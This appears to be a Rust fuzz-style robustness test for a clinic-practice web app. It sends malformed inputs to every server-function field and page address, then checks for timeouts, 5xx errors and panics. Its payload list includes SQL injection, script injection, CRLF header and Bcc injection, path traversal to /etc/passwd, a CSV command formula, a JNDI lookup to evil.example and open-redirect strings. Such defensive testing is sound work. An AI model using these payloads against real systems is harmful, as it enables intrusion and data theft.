//! Whatever is sent to whichever field of whichever server function, and into the addresses of pages: an honest
//! answer, in time, and nothing breaks.

#[path = "../../../server/tests/flows/payloads.rs"]
mod payloads;

use self::payloads::HURTFUL;
use super::Part;
use crate::{
    Run,
    client::{Answer, Browser, Trouble, encoded},
    practice::Practice,
    random::Random,
    report::Sheet,
    site::{Kind, Site},
};
use app::api::fields;
use std::time::Duration;
use tokio::{task::JoinSet, time::Instant};

/// Longer is a hang.
const PATIENCE: Duration = Duration::from_secs(2);
/// Fewer than may wait for a password hash: nobody is told to come back later.
const AT_ONCE: usize = 6;
/// Random bytes, beside what is known to hurt.
const RANDOM: usize = 200;
/// A field that no server function takes.
const UNKNOWN: &str = "nobody_takes_this";
/// Ends the session that all the others are asked with.
const SIGN_OUT: &str = "/api/accounts/sign-out";
/// Addresses with a place for a payload.
const ADDRESSES: [&str; 14] = [
    "/{}",
    "/sign-in?next={}",
    "/invitation/{}",
    "/reset-password/{}",
    "/p/{}/settings/staff",
    "/p/PRACTICE/settings/{}",
    "/p/PRACTICE/settings/staff/{}",
    "/p/PRACTICE/settings/staff?search={}",
    "/p/PRACTICE/settings/staff?role={}&kind={}&show={}&sort={}",
    "/p/PRACTICE/settings/staff?after={}",
    "/p/PRACTICE/settings/staff/several?what={}&id={}",
    "/p/PRACTICE/settings/audit-log?actor={}&from={}&until={}",
    "/p/PRACTICE/settings/audit-log?after={}&action={}",
    "/p/PRACTICE/settings/subscription?{}",
];

pub async fn run(run: &Run, kind: Kind, sheet: &Sheet) -> anyhow::Result<()> {
    let mut random = run.random(Part::Input, kind);
    let site = Site::new(run, kind).await?;
    let node = site.start().await?;
    let practice = Practice::open(&site, &node).await?;
    let ben = practice.invite("Ben", "ben@faults.example").await?;
    let payloads = payloads(&mut random);
    let callers = [practice.owner.clone(), Browser::new(practice.owner.server, "10.255.0.1")];
    let (mut questions, mut functions, mut places) = (Vec::new(), 0, 0);
    for (path, method) in fields::functions().filter(|(path, _)| *path != SIGN_OUT) {
        functions += 1;
        let taken = fields::of(path).unwrap_or_default();
        for field in taken.iter().copied().chain([UNKNOWN]) {
            places += 1;
            let beside = taken.iter().filter(|name| **name != field);
            let beside: Vec<_> = beside.map(|name| (*name, good(name, &practice.slug, &ben))).collect();
            let beside = encoded(&beside);
            for sent in payloads.iter().flat_map(|payload| shapes(field, payload)) {
                let get = method == "GET";
                let body = format!("{sent}&{beside}");
                questions.push(if get { (format!("{path}?{body}"), None) } else { (path.to_owned(), Some(body)) });
            }
        }
    }
    let addresses = ADDRESSES.iter().flat_map(|address| payloads.iter().map(move |p| address.replace("{}", p)));
    questions.extend(addresses.map(|address| (address.replace("PRACTICE", &practice.slug), None)));
    let mut seen = Seen::default();
    let mut asking = JoinSet::new();
    for caller in callers {
        for (path, body) in &questions {
            let (browser, path, body) = (caller.clone(), path.clone(), body.clone());
            asking.spawn(async move {
                let begin = Instant::now();
                let answer = browser.raw(&path, body.as_deref()).await;
                (path, body, answer, begin.elapsed())
            });
            if asking.len() >= AT_ONCE
                && let Some(done) = asking.join_next().await
            {
                seen.add(done?);
            }
        }
    }
    while let Some(done) = asking.join_next().await {
        seen.add(done?);
    }
    sheet.note("server functions / fields / payloads", format!("{functions} / {places} / {}", payloads.len()));
    sheet.note("requests", seen.asked);
    sheet.note("answered 2xx or 3xx / 4xx", format!("{} / {}", seen.yes, seen.no));
    sheet.none("answers with 5xx", seen.failed);
    sheet.none("connections closed without an answer", seen.cut);
    sheet.none("answers after more than 2 s", seen.late);
    sheet.none("fields that nobody takes, not refused", seen.swallowed);
    sheet.equal(
        "the Owner still opens the list",
        practice.list_as(&mut practice.owner.clone()).await?.status.into(),
        200,
    );
    sheet.holds("audit log whole", site.audit_is_whole().await);
    node.stop().await?;
    sheet.none("panics in the log", site.panics()?);
    Ok(())
}

/// What became of the requests.
#[derive(Default)]
struct Seen {
    asked: usize,
    yes: usize,
    no: usize,
    failed: usize,
    cut: usize,
    late: usize,
    swallowed: usize,
}

impl Seen {
    fn add(&mut self, done: (String, Option<String>, Result<Answer, Trouble>, Duration)) {
        let (path, body, answer, after) = done;
        self.asked += 1;
        let status = answer.as_ref().map_or(0, |answer| answer.status);
        let of_nobody = [Some(&path), body.as_ref()].into_iter().flatten().any(|sent| sent.contains(UNKNOWN));
        let mut wrong = after > PATIENCE;
        self.late += usize::from(after > PATIENCE);
        match status {
            0 => self.cut += 1,
            500.. => self.failed += 1,
            400..500 => self.no += 1,
            _ => self.yes += 1,
        }
        if of_nobody && (200..400).contains(&status) {
            self.swallowed += 1;
            wrong = true;
        }
        if wrong || status == 0 || status >= 500 {
            let sent: String = format!("{path} {}", body.unwrap_or_default()).chars().take(160).collect();
            println!("  {status} after {} ms: {sent}", after.as_millis());
        }
    }
}

/// What a field holds while another one is tried: without it, that one would hardly be looked at.
fn good<'a>(field: &str, practice: &'a str, person: &'a str) -> &'a str {
    match field {
        "practice" => practice,
        "id" => person,
        "email" | "identifier" => "nobody@faults.example",
        "first_name" | "last_name" | "name" => "Nora",
        "role" => "front-office",
        "kind" => "employee",
        "language" => "es",
        "until" | "from" => "2031-01-31",
        _ => "1",
    }
}

/// Ready to be sent: percent-encoded, as far as they are to be.
fn payloads(random: &mut Random) -> Vec<String> {
    let further = [
        "a%00b",
        "%C0%AF",
        "%CC%81%CC%81%CC%81%CC%81%CC%81%CC%81",
        "%EF%BB%BFx",
        "%C4%B0stanbul",
        "%0D%0ABcc:+eve@evil.example",
        "%0D%0ASet-Cookie:+a=b",
        "%09%0B%0C",
        "%27+OR+1=1--",
        "%22%5C%22",
        "%",
        "%zz",
        "%1",
        "+",
        "++++",
        "true",
        "NaN",
        "0",
        "9223372036854775808",
        "340282366920938463463374607431768211456",
        "1e309",
        "0x1F",
        "00000000-0000-0000-0000-000000000000",
        "ffffffff-ffff-ffff-ffff-ffffffffffff",
        "9999-12-31",
        "0000-00-00",
        "2031-02-30",
        "%2B999999-01-01",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "%3C!--",
        "javascript:alert(1)",
        "//evil.example",
        "%2F%5Cevil.example",
        "https://evil.example",
        "..%2F..%2Fetc%2Fpasswd",
        "%2e%2e/",
        "=cmd%7C%27/c+calc%27!A0",
        "@SUM(1)",
        "%22e@attacker.com%22@victim.com",
        "a@[127.0.0.1]",
        "a@localhost",
        "-froot@evil.example",
        "a@b.example,c@d.example",
        "a%40xn--.example",
        "$%7Bjndi:ldap://evil.example%7D",
        "%7B%7B7*7%7D%7D",
        "owner",
        "Owner",
        "therapist",
    ];
    let long = [("x", 200), ("x", 10_000), ("%F0%9F%A6%84", 400), ("%CC%81", 300), ("(", 3_000), ("..%2F", 300)];
    let long = long.map(|(piece, times)| piece.repeat(times));
    let bytes = |random: &mut Random| {
        let length = random.below(24) + 1;
        (0..length).map(|_| format!("%{:02X}", random.below(256))).collect::<String>()
    };
    let mut payloads: Vec<String> = HURTFUL.into_iter().chain(further).map(str::to_owned).chain(long).collect();
    payloads.extend((0..RANDOM).map(|_| bytes(random)));
    payloads
}

/// The field with the payload; for some of them doubled, as a list, as a table, or deeply nested, too.
fn shapes(field: &str, payload: &str) -> Vec<String> {
    let mut shapes = vec![format!("{field}={payload}")];
    match payload {
        "" => shapes.extend([10, 5_000].map(|depth| format!("{field}{}=a", "[a]".repeat(depth)))),
        "null" => shapes.extend(["", "[]"].map(|shape| vec![format!("{field}{shape}=a"); 1_000].join("&"))),
        "owner" | "-1" | "%00" => {
            shapes.extend(["", "[]", "[0]", "[x]"].map(|s| format!("{field}{s}={payload}&{field}{s}={payload}")));
            shapes.push(format!("{field}[={payload}"));
        }
        _ => {}
    }
    shapes
}
